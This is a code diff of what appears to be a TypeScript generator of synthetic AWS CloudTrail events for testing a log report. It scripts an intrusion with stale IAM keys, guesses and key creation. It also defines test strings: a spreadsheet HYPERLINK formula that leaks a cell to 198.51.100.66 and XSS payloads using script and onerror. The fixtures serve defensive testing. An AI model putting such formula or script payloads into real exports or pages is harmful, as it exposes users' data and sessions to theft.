@@ -1,12 +1,20 @@
 import { DAY, LAST_DAY } from './calendar.ts';
-import { type Session, UNUSUAL_FORMS } from './call.ts';
+import { UNUSUAL_FORMS } from './call.ts';
 import type { Cast } from './cast.ts';
 import * as company from './company.ts';
-import { federatedIdentity, iamUser, newKey, type Principal, rootIdentity, signedIn } from './identity.ts';
+import {
+  federatedIdentity,
+  iamUser,
+  newKey,
+  type Principal,
+  roleIdentity,
+  rootIdentity,
+  signedIn,
+} from './identity.ts';
 import type { Random } from './random.ts';
-import type { Occurrence, UserIdentity } from './record.ts';
+import type { Session, UserIdentity } from './record.ts';
 import * as signIns from './sign-ins.ts';
-import { Stage } from './stage.ts';
+import { type Occurrence, Stage } from './stage.ts';
 
 const { BOTO, CHROME, CLI, GUESSER, HEADLESS, IRELAND, LONDON_OFFICE, MANAGEMENT, NEW_YORK_OFFICE, OHIO } =
   company;
@@ -18,20 +26,29 @@ const FORMULA = '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")';
 const MARKUP =
   'curl/8.5.0 "quoted", <script>alert(document.cookie)</script>\nX-Second-Line: 1,2,3\t<img src=x onerror=alert(1)>';
 
-/** Days with fewer events than this have no story, except the last: there would be little else. */
+/** Days with fewer events than this have no stories, except the last day: there would be little else. */
 const BUSY_DAY = 500;
 
 /** What happens in every sample: all of it on the last day, so that a report of that day shows it. */
 export function storiesOf(cast: Cast, days: number, events: number, random: Random): Occurrence[] {
   const last = new Stage(cast, random, LAST_DAY);
-  const stories = [visitors, lateSignIns, rootAtWork, attack, hostileNames, strangers, unusualTypes];
-  const told = stories.flatMap((story) => story(last));
+  const stories = [
+    visitors,
+    lateSignIns,
+    rootAtWork,
+    attack,
+    hostileNames,
+    strangers,
+    crossAccount,
+    unusualTypes,
+  ];
+  const occurrences = stories.flatMap((story) => story(last));
   for (let back = 1; back < days && events / days >= BUSY_DAY; back++) {
     const stage = new Stage(cast, random, LAST_DAY - back * DAY);
-    told.push(...lateSignIns(stage));
-    if (back % 3 === 1) told.push(...guesses(stage, [stage.who.awsadmin, MANAGEMENT, PRODUCTION]));
+    occurrences.push(...lateSignIns(stage));
+    if (back % 3 === 1) occurrences.push(...guesses(stage, [stage.who.awsadmin, MANAGEMENT, PRODUCTION]));
   }
-  return told;
+  return occurrences;
 }
 
 /** Every way into the console, and what the sign-in pages record besides. */
@@ -74,8 +91,7 @@ function lateSignIns(stage: Stage): Occurrence[] {
 
 /** Root signs in, at the second try, for the few things that only root may do. */
 function rootAtWork(stage: Stage): Occurrence[] {
-  const more = { ...newKey('ASIA', stage.random), ...signedIn(stage.at('02:16:05'), true) };
-  const identity = rootIdentity(MANAGEMENT, more);
+  const identity = rootIdentity(MANAGEMENT, signedIn(stage.random, stage.at('02:16:05'), true));
   const session = { account: MANAGEMENT, identity, address: TOKYO_OFFICE, agent: CHROME, console: true };
   const titles =
     'iam:GetAccountSummary iam:ListMFADevices iam:GenerateCredentialReport account:PutAlternateContact';
@@ -93,33 +109,24 @@ function rootAtWork(stage: Stage): Occurrence[] {
 function attack(stage: Stage): Occurrence[] {
   const { suzuki, forgotten, awsadmin, tanaka } = stage.who;
   const users = [suzuki, suzuki, forgotten, awsadmin, awsadmin, tanaka];
-  const script = stage.keyed(forgotten, GUESSER, BOTO);
-  const more = { ...newKey('ASIA', stage.random), ...signedIn(stage.at('17:53:38'), false) };
-  const browser: Session = {
-    ...script,
-    identity: { ...script.identity, ...more },
-    agent: HEADLESS,
-    console: true,
-  };
+  const keyed = stage.keyed(forgotten, GUESSER, BOTO);
+  const identity = { ...keyed.identity, ...signedIn(stage.random, stage.at('17:53:38'), false) };
+  const browser: Session = { ...keyed, identity, agent: HEADLESS, console: true };
+  const lookAround = 'iam:GetAccountSummary iam:ListUsers iam:ListRoles s3:ListBuckets';
+  const script = 'sts:GetCallerIdentity iam:ListUsers ec2:DescribeInstances';
   const denied =
     'iam:AttachUserPolicy! secretsmanager:GetSecretValue! ec2:RunInstances! cloudtrail:StopLogging!';
   const keyFor = (userName: string, clock: string, session = browser) =>
     stage.calls(clock, TOKYO, session, 'iam:CreateAccessKey', { userName });
+  const login = (visitor: signIns.Visitor) => signIns.userLogin(visitor, forgotten, 'No');
   return [
     ...guesses(stage, [...users, PRODUCTION, MANAGEMENT, ...users]),
-    ...stage.signIns(HEADLESS, [
-      ['17:53:38', VIRGINIA, GUESSER, (at) => signIns.userLogin(at, forgotten, 'No')],
-    ]),
-    ...stage.calls(
-      '17:54:10',
-      TOKYO,
-      browser,
-      'iam:GetAccountSummary iam:ListUsers iam:ListRoles s3:ListBuckets',
-    ),
+    ...stage.signIns(HEADLESS, [['17:53:38', VIRGINIA, GUESSER, login]]),
+    ...stage.calls('17:54:10', TOKYO, browser, lookAround),
     ...keyFor('legacy-report', '17:56:20'),
     ...keyFor('backup-agent', '17:57:02'),
-    ...stage.calls('18:01:00', SYDNEY, script, 'sts:GetCallerIdentity iam:ListUsers ec2:DescribeInstances'),
-    ...stage.calls('18:02:10', SYDNEY, script, denied),
+    ...stage.calls('18:01:00', SYDNEY, keyed, script),
+    ...stage.calls('18:02:10', SYDNEY, keyed, denied),
     ...keyFor('deploy-old', '18:02:41', stage.keyed(tanaka, TOKYO_OFFICE, CLI)),
   ];
 }
@@ -149,9 +156,8 @@ function hostileNames(stage: Stage): Occurrence[] {
   ])];
 }
 
-/** Identities that are neither IAM user nor role: of other accounts and providers, of unknown type, of none at all. */
+/** Identities that are neither IAM user nor role: of other providers, anonymous, of unknown type, without a type. */
 function strangers(stage: Stage): Occurrence[] {
-  const { principalId } = stage.who.scanner;
   const auditor = federatedIdentity(stage.who.awsadmin, 'auditor', stage.at('10:05:12'));
   const hanako = { principalId: '6Kb0d2bV8uNcXqzP1rLJ:田中 花子', userName: '田中 花子' };
   // biome-ignore format: a table
@@ -159,7 +165,6 @@ function strangers(stage: Stage): Occurrence[] {
     ['07:31:00', { type: 'SAMLUser', ...hanako, identityProvider: SAML_PROVIDER }, 'sts:AssumeRoleWithSAML'],
     ['09:41:00', { type: 'WebIdentityUser', userName: 'repo:example-corp/shop', identityProvider: OIDC_PROVIDER }, 'sts:AssumeRoleWithWebIdentity'],
     ['10:06:00', auditor, 's3:ListBuckets'],
-    ['10:30:00', { type: 'AWSAccount', principalId, accountId: SECURITY }, 'sts:AssumeRole'],
     ['11:20:00', { type: 'AWSAccount', principalId: '', accountId: 'ANONYMOUS_PRINCIPAL' }, 's3:GetObject'],
     ['11:21:00', { type: 'Unknown', principalId: '', accountId: PRODUCTION }, 'sts:GetCallerIdentity'],
     ['11:22:00', { invokedBy: 'delivery.logs.amazonaws.com' }, 's3:PutObject'],
@@ -167,6 +172,21 @@ function strangers(stage: Stage): Occurrence[] {
   return rows.flatMap(([clock, identity, title]) => {
     const account = identity === auditor ? MANAGEMENT : PRODUCTION;
     return stage.calls(clock, TOKYO, { account, identity, address: '192.0.2.211', agent: BOTO }, title);
+  });
+}
+
+/** A role assumed from another account: both accounts log it, each under an eventID of its own. */
+function crossAccount(stage: Stage): Occurrence[] {
+  const { random } = stage;
+  const { scanner } = stage.who;
+  const identity = { type: 'AWSAccount', principalId: `${scanner.principalId}:scan`, accountId: SECURITY };
+  const session = { account: PRODUCTION, identity, address: '192.0.2.77', agent: BOTO };
+  const request = { roleArn: `arn:aws:iam::${PRODUCTION}:role/SecurityAudit`, roleSessionName: 'scan' };
+  return stage.calls('10:30:00', TOKYO, session, 'sts:AssumeRole', request).flatMap(({ at, record }) => {
+    const shared = { ...record, sharedEventID: random.uuid() };
+    const userIdentity = roleIdentity(scanner, 'scan', at, newKey('ASIA', random));
+    const atCaller = { ...shared, eventID: random.uuid(), userIdentity, recipientAccountId: SECURITY };
+    return [shared, atCaller].map((one) => ({ at, record: one }));
   });
 }
 
